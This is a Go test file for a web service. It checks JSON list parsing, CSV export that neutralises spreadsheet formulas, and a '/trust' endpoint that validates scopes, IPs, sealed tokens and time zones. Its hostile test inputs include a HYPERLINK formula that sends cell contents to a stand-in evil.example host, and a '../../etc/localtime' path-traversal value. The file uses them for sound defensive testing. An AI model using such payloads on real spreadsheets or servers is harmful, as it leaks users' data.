package functions_test

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
)

func TestLists(t *testing.T) {
	url := start(t) + "/rows"
	row := `{"name":"Bob","note":null,"count":2,"price":1.5}`
	for _, test := range []struct {
		body   string
		status int
		want   string
	}{
		{`{"rows":[],"more":[]}`, 200, `{"counts":0,"first":"nobody","last":null,"names":[],"nested":[],"noted":[],"numbers":[],"total":0}`},
		{`{"rows":[` + row + `,{"name":"ann","note":"","count":1,"price":2},` + row + `],"more":["7",true,3]}`, 200,
			`{"counts":5,"first":"Bob","last":{"at":null,"count":2,"name":"Bob","note":null,"price":1.5},"names":["ann","bob"],"nested":[2,2,2],"noted":["ann"],"numbers":[7,1,3],"total":8}`},
		{`{"rows":[{"name":"a","note":null,"count":9223372036854775807,"price":1},{"name":"a","note":null,"count":1,"price":1}],"more":[]}`, 400, `"rows":"int overflow"`},
		{`{"rows":[{"name":"a","note":null,"count":2,"price":1.7e308}],"more":[]}`, 400, `"rows":"float overflow"`},
		{`{"rows":[],"more":["x"]}`, 400, `more[0]`},
		{`{"rows":[],"more":{"a":1}}`, 400, `more is an object, want a list`},
		{`{"rows":[],"more":[null]}`, 400, `more[0]`},
	} {
		status, answer := send(t, http.MethodPost, url, json.RawMessage(test.body))
		if status != test.status || !strings.Contains(string(answer), test.want) {
			t.Errorf("%s\nanswered %d %s\nwant %d %s", test.body, status, answer, test.status, test.want)
		}
	}
}

// formulas are texts that a spreadsheet runs, or that end a cell.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", `=HYPERLINK("https://evil.example?"&A1)`, `a","b`, "a\r\nb", `"`, `""`, "", " =1", "a;b", "é,😀",
}

// TestTables reads tables of hostile texts back: each cell is one, and none begins like a formula.
func TestTables(t *testing.T) {
	url := start(t)
	for _, path := range []string{"/table", "/any"} {
		for _, text := range formulas {
			rows := map[string]any{"rows": []map[string]any{{"name": text, "note": nil, "count": -5, "price": 1.5, "at": "2026-07-01T12:00:00Z"}}}
			status, answer := send(t, http.MethodPost, url+path, rows)
			table := strings.ReplaceAll(string(answer), "\r\n", "\n")
			if path == "/any" {
				_, table, _ = strings.Cut(table, "\n") // the row that holds all of it as JSON
			}
			lines, err := csv.NewReader(strings.NewReader(table)).ReadAll()
			names := "at count name note price" // of any, as this test sends them
			if path == "/table" {
				names = "name note count price at" // as the document declares them
			}
			if err != nil || status != http.StatusOK || len(lines) != 2 || strings.Join(lines[0], " ") != names {
				t.Fatalf("%s of %q answered %d %q (%v)", path, text, status, answer, err)
			}
			cells := map[string]string{}
			for i, name := range lines[0] {
				cells[name] = lines[1][i]
			}
			got, want := cells["name"], strings.ReplaceAll(text, "\r\n", "\n")
			if got != want && got != "'"+want || got != "" && strings.ContainsAny(got[:1], "=+-@\t\r\n") {
				t.Errorf("%s of %q has the cell %q", path, text, got)
			}
			if cells["count"] != "-5" || cells["note"] != "" || cells["price"] != "1.5" || !strings.HasPrefix(cells["at"], "2026-07-01T12:00:00") {
				t.Errorf("%s has the row %q", path, lines[1])
			}
		}
	}
	for _, rows := range []string{`[1]`, `{"a":1}`, `"x"`, `[{"a":1},null]`} {
		if status, answer := send(t, http.MethodPost, url+"/any", json.RawMessage(`{"rows":`+rows+`}`)); status != http.StatusBadRequest {
			t.Errorf("rows %s answered %d %s, want 400", rows, status, answer)
		}
	}
	if _, answer := send(t, http.MethodPost, url+"/any", json.RawMessage(`{"rows":[{"b":1},{"a":[1,"x"],"b":null}]}`)); !strings.HasSuffix(string(answer), "b,a\r\n1,\r\n,\"[1,\"\"x\"\"]\"\r\n") {
		t.Errorf("rows of several shapes answered %q", answer)
	}
}

func TestTrust(t *testing.T) {
	url := start(t) + "/trust"
	good := map[string]any{
		"scopes": "orders:write orders:read", "ip": "10.1.2.3", "seed": "GEZDGNBVGY3TQOJQ", "code": "000000", "at": "2026-03-29T00:30:00Z", "from": 1, "to": 3,
	}
	ask := func(name string, value any) (int, map[string]any) {
		body := map[string]any{}
		for n, v := range good {
			body[n] = v
		}
		body[name] = value
		status, answer := send(t, http.MethodPost, url, body)
		var values map[string]any
		if err := json.Unmarshal(answer, &values); err != nil {
			t.Fatalf("%s: %v", answer, err)
		}
		return status, values
	}
	_, first := ask("ip", "10.1.2.3")
	sealed := first["closed"].(string)
	for _, test := range []struct {
		name  string
		value any
		field string
		want  any // nil is a 400 that names it
	}{
		{"scopes", nil, "scope", false},
		{"scopes", []any{"a", "orders:read"}, "scope", true},
		{"scopes", []any{"orders:read orders:write"}, "scope", false},
		{"scopes", "orders:reader xorders:read", "scope", false},
		{"scopes", map[string]any{"orders:read": true}, "scope", false},
		{"scopes", 7, "scope", false},
		{"ip", "::ffff:10.0.0.1", "inside", true},
		{"ip", "fd00::1%eth0", "inside", true},
		{"ip", "11.0.0.1", "inside", false},
		{"ip", "10.0.0.1:80", "ip", nil},
		{"ip", "", "ip", nil},
		{"sealed", sealed, "opened", "10.1.2.3"},
		{"sealed", "", "sealed", nil},
		{"sealed", sealed[:len(sealed)-2], "sealed", nil},
		{"sealed", string(sealed[1]) + string(sealed[0]) + "x" + sealed[2:], "sealed", nil},
		{"sealed", sealed + "=", "sealed", nil},
		{"sealed", strings.Repeat("A", 1000), "sealed", nil},
		{"seed", "not base32!", "seed", nil},
		{"seed", "", "seed", nil},
		{"code", "", "valid", false},
		{"code", strings.Repeat("0", 1000), "valid", false},
		{"at", "2026-03-29T12:00:00Z", "day", "Sun 29.03.2026 00:00 +0100"},
		{"at", "2026-07-01T22:30:00Z", "day", "Thu 02.07.2026 00:00 +0200"},
		{"zone", nil, "there", "29.03. 00:00 +0000"},
		{"zone", "Asia/Kolkata", "there", "29.03. 00:00 +0530"},
		{"zone", "Local", "zone", nil},
		{"zone", "../../etc/localtime", "zone", nil},
		{"length", nil, "later", "2026-03-29T01:30:00Z"},
		{"length", "45m", "later", "2026-03-29T01:15:00Z"},
		{"length", "-2d", "later", "2026-03-27T00:30:00Z"},
		{"length", "300000w", "length", nil},
		{"length", "soon", "length", nil},
		{"took", nil, "before", "2026-03-29T00:29:00Z"},
		{"took", "1w", "before", "2026-04-05T00:30:00Z"},
		{"from", -9, "part", "naï"},
		{"from", 9, "part", ""},
		{"from", 2, "part", "ï"},
		{"to", 100, "part", "aïve 😀"},
		{"from", "-9223372036854775808", "from", nil},
	} {
		status, values := ask(test.name, test.value)
		if errors, _ := values["errors"].(map[string]any); test.want == nil && (status != http.StatusBadRequest || errors[test.field] == nil) {
			t.Errorf("%s %v answered %d %v, want a 400 of %s", test.name, test.value, status, values, test.field)
		}
		if test.want != nil && values[test.field] != test.want {
			t.Errorf("%s %v answered %d %v, want %s %v", test.name, test.value, status, values, test.field, test.want)
		}
	}
	if _, second := ask("ip", "10.1.2.3"); second["closed"] == sealed {
		t.Error("one text is encrypted twice to the same")
	}
}
